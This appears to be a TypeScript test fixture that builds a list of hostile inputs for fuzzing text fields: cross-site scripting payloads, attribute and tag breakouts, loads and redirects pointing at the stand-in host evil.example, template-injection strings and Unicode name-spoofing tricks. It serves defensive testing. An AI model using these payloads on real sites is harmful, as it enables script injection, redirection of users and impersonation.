/** Texts that try to run as code, to load something, or to change the page around them, in every field that people fill. */

/** Sets a mark on the page if it runs. */
const RUN = 'globalThis.hostile=1'
const SITE = 'https://evil.example'

/** Each is code or markup that some page, at some time, has taken. */
const SEEDS = [
  `<script>${RUN}</script>`,
  `<script src=${SITE}/x.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=${SITE}/pixel.gif>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href=${SITE}/s.svg#x></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<iframe src=javascript:${RUN}></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data=javascript:${RUN}></object>`,
  `<embed src=${SITE}/e.svg>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=${SITE}/a.ogg autoplay onerror=${RUN}></audio>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<marquee onstart=${RUN}>`,
  `<link rel=stylesheet href=${SITE}/x.css>`,
  `<style>@import'${SITE}/x.css';*{display:none!important}</style>`,
  `<meta http-equiv=refresh content="0;url=${SITE}">`,
  `<base href=${SITE}/>`,
  `<form action=${SITE}><button>Go on</button></form>`,
  `<a href="javascript:${RUN}">click</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">click</a>`,
  `<div style="position:fixed;inset:0;background:url(${SITE}/b)">`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><script>${RUN}</script>]]>`,
  `<custom-x onpointerenter=${RUN} style=position:fixed;inset:0>`,
  `javascript:${RUN}`,
  `JaVaScRiPt\t:${RUN}`,
  `data:text/html;base64,PHNjcmlwdD5ob3N0aWxlPTE8L3NjcmlwdD4=`,
  `vbscript:msgbox(1)`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `{@html '<img src=x onerror=${RUN}>'}`,
  `#{${RUN}}`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `__proto__`,
  `constructor`
]

/** Ways out of what a text may stand in: an attribute, an element, a comment, a script. */
const BREAKS = ['', '">', '</textarea></title></style>', "-->;'//"]

/** Marks that turn the order of letters, hide them, or pile up. */
const SPOOFS = [
  '\u202Egnp.exe',
  'Bob\u202E',
  '\u2066Bob\u2069\u2069',
  '\u200FBob',
  'Bo\u200Bb',
  'B\u043Eb',
  'Bob\u00A0',
  'Bob\u{E0001}',
  'Bob ✓',
  'Bob ✔️ Verified',
  'Volo',
  'Notes to self',
  'You',
  '\u0000Bob',
  'Z\u0351\u0359'.repeat(20),
  '\uFDFD'.repeat(12),
  'a'.repeat(400),
  '\uD800',
  'Bob\nVerified'
]

/** More than two hundred different texts. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...SEEDS.flatMap(seed => BREAKS.map(way => `${way}${seed}`)),
  ...SPOOFS
]

/** Names that pose as Bob, as the app, or hide something. No name of a person may be one of them. */
export const POSING_NAMES: readonly string[] = SPOOFS.filter(name => name.trim() !== '')
